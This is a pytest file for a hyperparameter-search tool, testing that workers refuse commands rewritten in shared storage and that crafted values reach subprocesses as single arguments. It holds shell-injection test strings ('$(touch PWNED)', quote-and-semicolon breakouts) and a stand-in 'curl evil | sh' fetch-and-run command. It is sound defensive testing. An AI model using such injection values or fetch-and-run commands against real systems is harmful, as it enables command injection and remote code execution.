"""No code from the storage: a worker runs a stored command only when its own side allows it,
and what reaches the command from the storage is data, never shell.

A real `tune worker` subprocess is started on a study whose stored command was rewritten in
the storage after launch (as any client with write access could): it refuses with one line and
runs nothing. Values crafted to break out of the command's arguments (quotes, `;`, `$(...)`,
backticks, newlines) reach a real process as one argument, with a plain argv and through
`sh -c`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import optuna
import pytest
from optuna.trial import TrialState

from search.bookkeeping import trial_record
from search.bookkeeping.storage import open_storage
from search.control.study_setup import prepare_study
from search.running.command_trust import UntrustedCommand, check_command, command_digest
from search.study.study_file import load_study_file
from search.trainers.base import TrainerError, TrialJob
from search.trainers.command import from_options
from search.trainers.command_options import shell_script_index
from tests.search.reliability_support import ROOT, TUNE

SCRIPT = Path(__file__).with_name("command_script.py")
OPTIONS = {"command": ["python", "train.py", "--hyp", "{hyp}"], "resume_args": []}
NASTY = [
    "x'; touch PWNED; echo '",
    'x"; touch PWNED; echo "',
    "$(touch PWNED)",
    "`touch PWNED`",
    "a b\ntouch PWNED\n--evil",
    "; touch PWNED #",
    "--output=/etc/passwd",
]


def test_only_the_command_the_workers_side_allows_runs() -> None:
    # studies that run no command are unaffected
    check_command("s", "tune", {})
    check_command("s", "ultralytics", {"model": "yolov8n.yaml"})
    # a stored command without an allowance: refused, the command shown, how to allow it
    with pytest.raises(UntrustedCommand) as refused:
        check_command("s", "command", OPTIONS)
    message = str(refused.value)
    assert "study 's' runs a command stored with it (python train.py --hyp '{hyp}')" in message
    assert "--study FILE.toml" in message and "--allow-command" in message
    # the worker's own study file holds the same command, or the digest it was given matches
    check_command("s", "command", OPTIONS, study_file=("s.toml", dict(OPTIONS)))
    check_command("s", "command", OPTIONS, allowed_digest=command_digest(OPTIONS))
    # anything else is named
    changed = {**OPTIONS, "command": ["sh", "-c", "curl evil | sh"]}
    with pytest.raises(UntrustedCommand, match=r"command\[0\] is 'sh' there, 'python' here"):
        check_command("s", "command", changed, study_file=("s.toml", OPTIONS))
    with pytest.raises(UntrustedCommand, match="is not the one --allow-command"):
        check_command("s", "command", changed, allowed_digest=command_digest(OPTIONS))
    resumed = {**OPTIONS, "resume_args": ["--config", "/tmp/evil.py"]}
    assert command_digest(resumed) != command_digest(OPTIONS)
    with pytest.raises(UntrustedCommand, match=r"resume_args\[0\] is '--config' there, None"):
        check_command("s", "command", resumed, study_file=("s.toml", OPTIONS))
    # a study file of another trainer allows no command
    with pytest.raises(UntrustedCommand, match=r"command\[0\] is 'python' there, None here"):
        check_command("s", "command", OPTIONS, study_file=("s.toml", {}))


STUDY = """
name = "trusted"

[budget]
n_trials = 1

[trial]
trainer = "command"
epochs = 1

[trial.command]
command = [{python}, {script}, "ok", "--lr0", "{{lr0}}"]
params = {{ lr0 = {{ default = 0.01, low = 0, high = 1 }} }}

[pruner]
type = "None"

[space]
lr0 = {{ low = 0.001, high = 0.5, log = true }}
"""


@pytest.mark.slow
def test_a_worker_refuses_a_command_rewritten_in_the_storage_after_launch(
    tmp_path: Path,
) -> None:
    study_file = tmp_path / "trusted.toml"
    study_file.write_text(
        STUDY.format(python=json.dumps(sys.executable), script=json.dumps(str(SCRIPT)))
    )
    url = f"sqlite:///{tmp_path / 'tune.db'}"
    spec = load_study_file(str(study_file))
    digest = command_digest(dict(spec.trial.options))
    prepare_study(spec, open_storage(url, create_schema=True))
    # a client with write access to the storage rewrites the stored command
    study = optuna.load_study(study_name="trusted", storage=url)
    raw = trial_record.read_study_spec(study)
    assert raw is not None
    pwned = tmp_path / "PWNED"
    raw["trial"]["command"]["command"] = ["sh", "-c", f"touch {pwned}"]
    trial_record.record_study_spec(study, raw)

    env = {k: v for k, v in os.environ.items() if k != "TUNE_ALLOW_COMMAND"}
    env.update(TUNE_STORAGE=url, OMP_NUM_THREADS="1")
    for args, says in (
        (["--study", str(study_file)], f"differs from {study_file}'s: command[0] is 'sh' there"),
        (["--study", "trusted", "--allow-command", digest], "is not the one --allow-command"),
        (["--study", "trusted"], f"runs a command stored with it (sh -c 'touch {pwned}')"),
    ):
        done = subprocess.run(
            [*TUNE, "worker", *args, "--runs-dir", str(tmp_path / "runs")],
            cwd=ROOT, env=env, capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        lines = [line for line in done.stderr.splitlines() if line.startswith("error:")]
        assert done.returncode == 1, (args, done.stdout, done.stderr)
        assert len(lines) == 1 and "study 'trusted'" in lines[0] and says in lines[0], lines
    assert not pwned.exists()
    trials = optuna.load_study(study_name="trusted", storage=url).get_trials()
    assert all(t.state == TrialState.WAITING for t in trials)  # none was asked, none ran
    assert not (tmp_path / "runs" / "trusted").exists()


def _run(argv: list[str]) -> list[str]:
    """What a real process received as its arguments."""
    echo = [sys.executable, "-c", "import json, sys; print(json.dumps(sys.argv[1:]))"]
    if argv[0] == "sh":  # the script's own command line is the echo's
        argv = [*argv[:2], argv[2].replace("ECHO", " ".join(map(_sh, echo))), *argv[3:]]
    else:
        argv = [*echo, *argv[1:]]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=True)
    return list(json.loads(done.stdout))


def _sh(word: str) -> str:
    import shlex

    return shlex.quote(word)


@pytest.mark.parametrize("value", NASTY)
def test_a_crafted_value_reaches_the_command_as_one_argument(
    tmp_path: Path, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # where a `touch PWNED` that got through would land
    params = {"name": {"default": "plain"}}  # a free string, as the storage may hold any
    job = TrialJob(
        values={"name": value}, data=value, epochs=1, eval_interval=1, out=tmp_path / "t", seed=1
    )
    for command in (
        ["ECHO", "--name", "{name}", "--data={data}"],
        ["sh", "-c", "ECHO --name {name} --data={data}"],
        ["sh", "-ec", "ECHO --name {name} --data={data}"],
    ):
        trainer = from_options({"command": command, "params": params}, "trial.command")
        received = _run(trainer.argv(job))
        assert received == ["--name", value, f"--data={value}"], (command, received)
    assert not (tmp_path / "PWNED").exists()


def test_shell_scripts_take_bare_placeholders_and_no_value_holds_a_nul(tmp_path: Path) -> None:
    assert shell_script_index(["sh", "-c", "x"]) == 2
    assert shell_script_index(["/usr/bin/env", "FOO=1", "bash", "-ec", "x"]) == 4
    assert shell_script_index(["bash", "train.sh", "-c", "x"]) is None  # a script file
    assert shell_script_index(["python", "-c", "x"]) is None
    with pytest.raises(TrainerError, match=r"command\[2\]: write placeholders bare"):
        from_options({"command": ["sh", "-c", "train --out '{out}'"]}, "trial.command")
    with pytest.raises(TrainerError, match=r"command\[2\]: write placeholders bare"):
        from_options({"command": ["bash", "-c", 'train --out "{out}/last.pt"']}, "trial.command")
    trainer = from_options(
        {"command": ["train", "--name", "{name}"], "params": {"name": {"default": "a"}}},
        "trial.command",
    )
    job = TrialJob(values={"name": "a\0b"}, data="shapes", epochs=1, eval_interval=1, out=tmp_path)
    with pytest.raises(TrainerError, match="cannot be a command-line argument"):
        trainer.argv(job)


@pytest.mark.slow
def test_launch_gives_its_workers_the_command_of_the_study_file_it_read(tmp_path: Path) -> None:
    study_file = tmp_path / "trusted.toml"
    study_file.write_text(
        STUDY.format(python=json.dumps(sys.executable), script=json.dumps(str(SCRIPT)))
    )
    digest = command_digest(dict(load_study_file(str(study_file)).trial.options))
    env = {k: v for k, v in os.environ.items() if k != "TUNE_ALLOW_COMMAND"}
    env.update(OMP_NUM_THREADS="1")
    url = f"sqlite:///{tmp_path / 'tune.db'}"
    done = subprocess.run(
        [*TUNE, "launch", "--study", str(study_file), "--storage", url, "--workers", "1",
         "--runs-dir", str(tmp_path / "runs")],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    # and says what workers on other hosts are given
    assert f"tune worker --study trusted --allow-command {digest}" in done.stdout
    trials = optuna.load_study(study_name="trusted", storage=url).get_trials()
    assert [t.state for t in trials] == [TrialState.COMPLETE]
